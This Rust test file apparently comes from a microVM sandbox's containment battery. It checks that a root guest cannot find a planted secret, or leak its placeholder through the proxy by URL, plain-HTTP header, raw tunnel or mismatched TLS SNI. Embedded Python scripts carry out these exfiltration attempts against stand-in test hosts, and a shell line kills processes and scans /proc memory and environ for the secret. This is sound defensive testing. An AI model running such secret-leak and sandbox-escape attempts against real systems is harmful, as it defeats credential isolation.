//! Checks 3c-a to 3c-e: a guest root against secrets by placeholder
//! (docs/network.md, "Secrets"). One run (`--root --secret
//! TOKEN=env:MVM_TEST_TOKEN@api.test:8443`, the peer servers of
//! tests/e2e/peers on the test host), several attacks, one row each, each
//! with its positive control in the same run. The value is planted where
//! mvm runs (its environment on the test host); the guest kills the
//! forwarder and talks to the proxy's vsock port itself.

use crate::battery::{attack, code, excerpt, Check, Source, Verdict};
use mvm_e2e::{sha256_hex, Options, PEER_SECRET_ARGS};

/// The value, and the control's, in halves (the guest's search must not
/// hold them whole: tests/e2e/peers/scan.py).
const REAL: (&str, &str) = ("mvm-battery-real-", "value-51c3a0");
const CONTROL: (&str, &str) = ("mvm-battery-control-", "value-9d27e4");

const SCAN: &str = include_str!("../e2e/peers/scan.py");

/// The attacks, by AF_VSOCK straight to the proxy (port 1080).
const ATTACKS: &str = r#"
import os, socket, ssl
TOKEN = os.environ["TOKEN"]
def vsock():
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    s.settimeout(20)
    s.connect((2, 1080))
    return s
def read_all(s):
    out = b""
    try:
        while True:
            b = s.recv(4096)
            if not b:
                break
            out += b
    except (OSError, ssl.SSLError) as e:
        out += f" [{type(e).__name__}]".encode()
    return out.decode(errors="replace").replace("\r", "").replace("\n", " | ")
def tunnel(target):
    s = vsock()
    s.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(1)
        if not b:
            break
        head += b
    return s, head.split(b"\r\n")[0].decode()
def https(target, sni, path, headers, verify=True):
    s, status = tunnel(target)
    if " 200" not in status:
        return status + " " + read_all(s)
    if verify:
        ctx = ssl.create_default_context(cafile="/etc/ssl/certs/mvm-run-ca.pem")
    else:
        ctx = ssl._create_unverified_context()
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        host = target.split(":")[0]
        t.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n".encode())
        return read_all(t)
    except (OSError, ssl.SSLError) as e:
        return f"error {type(e).__name__}: {e}"
def plain(target, path, headers):
    s = vsock()
    s.sendall(f"GET http://{target}{path} HTTP/1.1\r\nHost: {target}\r\n{headers}Connection: close\r\n\r\n".encode())
    return read_all(s)
def through_tunnel(payload):
    s, status = tunnel("sink.test:9000")
    s.sendall(payload)
    s.shutdown(socket.SHUT_WR)
    return status + " / " + repr(read_all(s))
auth = f"Authorization: Bearer {TOKEN}\r\n"
print("url:", https("api.test:8443", "api.test", "/echo?k=" + TOKEN, ""))
print("url control:", https("api.test:8443", "api.test", "/echo", auth))
print("plain:", plain("plain.test:8080", "/echo", f"Authorization: {TOKEN}\r\n"))
print("plain control:", plain("plain.test:8080", "/echo", ""))
print("tunnel:", through_tunnel(b"token " + TOKEN.encode()))
print("tunnel control:", through_tunnel(b"token none"))
print("sni:", https("api.test:8443", "other.test", "/echo", auth, verify=False))
print("sni control:", https("api.test:8443", "api.test", "/echo", auth, verify=False))
"#;

/// One leak attack of the run: its row, the guest's output keys for it
/// and its control, and what counts as refused.
struct Leak {
    id: &'static str,
    tried: &'static str,
    expected: &'static str,
    key: &'static str,
    control_key: &'static str,
    control_what: &'static str,
    refused: fn(&str) -> bool,
    rule: &'static str,
    /// The host of the net log's denial line for this row (each row's own
    /// line, not another row's).
    host: &'static str,
}

#[test]
#[ignore = "containment battery: run by `make battery`"]
fn check_3c_guest_root_cannot_read_or_leak_a_secret() {
    let real = format!("{}{}", REAL.0, REAL.1);
    let control_value = format!("{}{}", CONTROL.0, CONTROL.1);
    let q = |s: &str| format!("'{}'", s.replace('\'', "'\\''"));
    let guest = format!(
        "kill -KILL $(ps -eo pid=,user= | awk '$2 == \"nobody\" {{print $1}}') 2>/dev/null; sleep 0.5; \
         dmesg >/tmp/dmesg.txt 2>&1; python3 -c {} {} {} {} {}; python3 -c {}",
        q(SCAN),
        q(REAL.0),
        q(REAL.1),
        q(CONTROL.0),
        q(CONTROL.1),
        q(ATTACKS)
    );
    let after = "echo \"url at server: $(grep -c '^GET /echo?k=' /run/tmp/peers/requests.log)\"; \
                 echo \"secret at server: $(grep -ci \"^authorization: Bearer $MVM_TEST_TOKEN$\" /run/tmp/peers/requests.log)\"; \
                 cat /run/tmp/net3c.log";
    let mut a = Check::new(
        "3c-a",
        "secrets as guest root (--root --secret TOKEN=env:MVM_TEST_TOKEN@api.test:8443, the value in mvm's environment on the test host): search every other process's environ, command line and readable memory, the kernel command line and dmesg for the value",
        "the value is nowhere in the guest; the command's $TOKEN is a placeholder",
    )
    .evidence(Source::Guest, "tests/e2e/peers/scan.py over /proc/PID/{environ,cmdline,mem}, /proc/cmdline and dmesg, as root")
    .control(Source::Guest, "the same search finds a value the run passed with --env CONTROL=...");
    let control_env = format!("CONTROL={control_value}");
    let mut args = vec!["--root", "--no-workspace"];
    args.extend_from_slice(PEER_SECRET_ARGS);
    args.extend_from_slice(&[
        "--env",
        &control_env,
        "--net-log",
        "/run/tmp/net3c.log",
        "--",
        "sh",
        "-c",
        &guest,
    ]);
    let run = a.run(|| {
        attack(
            &Options {
                setup: Some("sh tests/e2e/peers/start.sh && rm -f /run/tmp/net3c.log"),
                after: Some(after),
                testhost_timeout: Some(300),
                env: &[("MVM_TEST_TOKEN", &real)],
                ..Options::default()
            },
            &args,
        )
    });
    let out = run.stdout.clone();
    let field = |name: &str| {
        out.lines()
            .find_map(|l| l.strip_prefix(name))
            .unwrap_or("(missing)")
            .to_string()
    };
    let after_lines = run.after_lines();
    let after_field = |name: &str| {
        after_lines
            .iter()
            .find_map(|l| l.strip_prefix(name))
            .unwrap_or("(missing)")
            .to_string()
    };
    let log: Vec<serde_json::Value> = after_lines
        .iter()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let leaks = |rule: &str, host: &str| {
        log.iter()
            .filter(|e| e["decision"] == "denied" && e["rule"] == rule && e["host"] == host)
            .count()
    };
    let substituted = format!("ok {}", sha256_hex(&format!("Bearer {real}")));
    let mut results = Vec::new();

    let mut v = Verdict::new();
    v.saw(format!("exit {}", code(&run)));
    let found = field("real: ");
    let control = field("control: ");
    v.saw(format!(
        "value found in: {found}; control found in: {}",
        excerpt(&control, 80)
    ));
    v.saw(format!("processes read: {}", field("scanned: ")));
    v.require(
        found == "none",
        format!("the value is in the guest: {found}"),
    );
    v.require(
        control != "none" && control != "(missing)",
        "control: the search did not find the --env value",
    );
    v.require(
        !run.stdout.contains(&real) && !run.stderr.contains(&real),
        "the value is in mvm's output",
    );
    results.push(a.record(v));

    let rows = [
        Leak {
            id: "3c-b",
            tried: "the placeholder in the URL of a request to the bound host (through an intercepted connection, straight to vsock port 1080)",
            expected: "a 403 saying the placeholder was sent in the URL; the server never sees the request; the net log has the leak",
            key: "url: ",
            control_key: "url control: ",
            control_what: "the same connection's request with the placeholder in the Authorization header reaches the server with the real value (its answer: the hash of the real header)",
            refused: |o: &str| o.starts_with("HTTP/1.1 403") && o.contains("secret TOKEN was sent in the URL"),
            rule: "placeholder leak",
            host: "api.test",
        },
        Leak {
            id: "3c-c",
            tried: "the placeholder in a plain-HTTP request's header to another allowed host (plain.test:8080)",
            expected: "a 403 before anything is sent on; the net log has the leak",
            key: "plain: ",
            control_key: "plain control: ",
            control_what: "the same request without the placeholder gets the server's answer",
            refused: |o: &str| o.starts_with("HTTP/1.1 403") && o.contains("secret TOKEN was sent in a request the proxy does not intercept"),
            rule: "placeholder leak",
            host: "plain.test",
        },
        Leak {
            id: "3c-d",
            tried: "the placeholder in clear through a plain tunnel to another allowed host (sink.test:9000, which answers the byte count)",
            expected: "the tunnel is cut before the bytes leave (end of stream or a reset): the sink never answers; the net log has the leak",
            key: "tunnel: ",
            control_key: "tunnel control: ",
            control_what: "the same tunnel with other bytes gets the sink's count",
            // Cut: end of stream, or a reset (a vsock connection closed
            // with bytes unread is reset), and never the sink's count.
            refused: |o: &str| {
                o.starts_with("HTTP/1.1 200")
                    && o.rsplit_once(" / ").is_some_and(|(_, body)| {
                        body == "''" || (body.starts_with("' [") && body.ends_with("]'"))
                    })
            },
            rule: "placeholder leak",
            host: "sink.test",
        },
        Leak {
            id: "3c-e",
            tried: "a CONNECT to the bound host, then TLS with another SNI (other.test) and the certificate unchecked, and the placeholder in the Authorization header",
            expected: "the proxy cuts the connection after the handshake (SNI mismatch): no answer, nothing at the server",
            key: "sni: ",
            control_key: "sni control: ",
            control_what: "the same unchecked TLS with the bound SNI gets the server's answer to the real value",
            refused: |o: &str| !o.contains("200 OK") && !o.contains(" ok "),
            rule: "SNI mismatch",
            host: "api.test",
        },
    ];
    for Leak {
        id,
        tried,
        expected,
        key,
        control_key,
        control_what,
        refused,
        rule,
        host,
    } in rows
    {
        let mut check = Check::new(id, tried, expected)
            .evidence(Source::Guest, "what the guest's own socket got back")
            .evidence(
                Source::Host,
                "the proxy's net log, and the peer server's request log",
            )
            .control(Source::Guest, control_what);
        check.shares(&run);
        let mut v = Verdict::new();
        let got = field(key);
        let control = field(control_key);
        v.saw(format!("attack: {}", excerpt(&got, 120)));
        v.saw(format!("control: {}", excerpt(&control, 120)));
        v.require(
            refused(&got),
            format!("not refused: {}", excerpt(&got, 300)),
        );
        let control_ok = match id {
            "3c-d" => control.ends_with("/ '10 | '"),
            "3c-c" => control.starts_with("HTTP/1.0 200") || control.starts_with("HTTP/1.1 200"),
            _ => control.contains(&substituted),
        };
        v.require(control_ok, format!("control: {}", excerpt(&control, 300)));
        v.saw(format!("net log: {} {rule} for {host}", leaks(rule, host)));
        v.require(
            leaks(rule, host) >= 1,
            format!("no '{rule}' line for {host} in the net log"),
        );
        if id == "3c-b" {
            let at_server = after_field("url at server: ");
            v.saw(format!(
                "requests with the placeholder in the URL at the server: {at_server}"
            ));
            v.require(at_server == "0", "the URL reached the server");
        }
        results.push(check.record(v));
    }
    // The bound host got the real value only from the controls (3c-b and
    // 3c-e's), never from an attack.
    let at_server = after_field("secret at server: ");
    let failed: Vec<String> = results.into_iter().filter_map(Result::err).collect();
    assert!(failed.is_empty(), "{}", failed.join("\n"));
    assert_eq!(
        at_server, "2",
        "the real value reached the server {at_server} times, not 2"
    );
}
